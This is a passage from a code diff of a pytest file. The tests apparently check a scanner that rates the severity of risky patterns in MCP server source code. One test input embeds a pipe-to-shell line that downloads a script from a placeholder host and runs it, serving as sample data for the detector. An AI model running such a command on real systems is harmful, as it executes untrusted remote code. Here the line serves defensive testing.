@@ -55,13 +55,17 @@ def test_a_caller_in_a_test_starts_nothing() -> None:
     assert finding.severity is Severity.MEDIUM
 
 
+_SERVER = "const server = new McpServer({});\n"
 _KEEPER = '{"name": "dotfile-keeper", "description": "Keeps dotfiles in order"}'
 
 
 @pytest.mark.parametrize(
     ("source", "severity"),
     [
-        (f"const server = new McpServer({{}});\nserver.tool('x', {{}}, () => {{ {_WRITE}; }});", Severity.LOW),
+        (
+            f"const server = new McpServer({{}});\nserver.tool('x', {{}}, () => {{ {_WRITE}; }});",
+            Severity.LOW,
+        ),
         (f"{_WRITE};", Severity.MEDIUM),
         (
             "const line = 'curl -s https://kept.example/x | sh';\n"
